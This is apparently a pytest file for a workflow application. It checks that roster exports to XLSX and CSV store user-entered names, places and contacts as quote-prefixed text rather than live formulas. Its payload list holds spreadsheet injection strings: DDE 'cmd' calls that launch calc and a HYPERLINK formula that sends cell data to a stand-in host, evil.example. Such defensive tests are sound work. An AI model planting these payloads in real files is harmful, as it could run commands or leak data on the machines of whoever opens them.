"""Exports cannot attack their reader (issue 17): text users typed (a cadre's name, a batch's
place, a contact, a plan reference) is written to every XLSX and CSV export as text, never as a
live formula, DDE call or hyperlink, with the usual injection payloads."""

from __future__ import annotations

import csv
import dataclasses
from collections.abc import Iterator
from datetime import date
from io import BytesIO
from pathlib import Path

import plans_setup
import pytest
from click.testing import CliRunner
from factories import AS_AGENCY, AS_FAMILY, CONSENT, REGISTRATION, cadre
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from workflow import Engine, SimulatedClock
from workflow.cli.main import main
from workflow.reports import batch_roster
from workflow.reports.xlsx import roster_xlsx
from workflow.roster import check_roster, write_csv

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=\x01控制字符",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(book_bytes: bytes) -> Iterator[Cell]:
    book = load_workbook(BytesIO(book_bytes))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if isinstance(cell, Cell))


def assert_inert(book_bytes: bytes, expected: set[str]) -> None:
    """No formula or error cell anywhere; each payload is there as a string, quote-prefixed."""
    found = set()
    for cell in cells(book_bytes):
        assert cell.data_type not in {"f", "e"}, (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.quotePrefix, (cell.coordinate, cell.value)
        found.add(cell.value)
    assert expected <= found, expected - found


def seated_batch(engine: Engine, payload: str) -> int:
    """A batch whose place, safety plan and organiser contact are ``payload``, one cadre seated."""
    engine.upgrade_schema()
    made = plans_setup.batch(
        engine,
        capacity=50,
        staff_count=5,
        place=payload,
        safety_plan_ref=payload,
        organiser_contacts=[{"name": payload, "phone": "0635-1234567"}],
    )
    engine.put_cadres([cadre("LC-DCF-0001")])
    case = engine.open_case("LC-DCF-0001", actor="cadre:张建国@LC-DCF-0001", data=REGISTRATION)
    case = engine.fire(case.id, "consent", actor=AS_FAMILY, data=CONSENT)
    engine.fire(case.id, "approve", actor=AS_AGENCY, data={"batch_id": made["id"]})
    return int(made["id"])


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_roster_xlsx_writes_every_payload_as_text(
    db_url: str, clock: SimulatedClock, payload: str
) -> None:
    with Engine(db_url, clock=clock) as engine:
        roster = batch_roster(engine, seated_batch(engine, payload))
    # a name and an agreement number from the case's evidence, through the model
    entry = dataclasses.replace(roster.entries[0], name=payload, agreement_no=payload)
    roster = dataclasses.replace(roster, entries=(entry,))
    # XML reads a CR back as LF; a control character XML cannot hold is replaced
    shown = payload.replace("\x01", "\ufffd").replace("\r", "\n")
    assert_inert(roster_xlsx(roster), {shown})


def test_report_batch_roster_xlsx_from_the_command_line(
    db_url: str, clock: SimulatedClock, tmp_path: Path
) -> None:
    payload = '=HYPERLINK("http://evil.example","点我")'
    with Engine(db_url, clock=clock) as engine:
        batch_id = seated_batch(engine, payload)
    out = tmp_path / "roster.xlsx"
    result = CliRunner().invoke(
        main,
        ["--db", db_url, "--now", "2024-05-06T10:00", "report", "batch-roster",
         "--batch", str(batch_id), "--format", "xlsx", "--out", str(out)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert_inert(out.read_bytes(), {payload})


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\x01" not in p and "\r" not in p])
def test_roster_csv_export_quotes_formulas_and_round_trips(tmp_path: Path, payload: str) -> None:
    contact = {"name": "张丽", "relation": "女儿", "phone": "13800001234"}
    record = cadre("LC-DCF-0001", name=payload, family_contact=contact)
    path = tmp_path / "roster.csv"
    write_csv(path, [record])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    written = row[header.index("name")]
    assert written == "'" + payload if payload.startswith(FORMULA_STARTS) else payload
    assert not written.startswith(FORMULA_STARTS)
    checked = check_roster(path, today=date(2024, 5, 6), shown_as="roster.csv")
    assert checked.records[0].name == payload.strip()
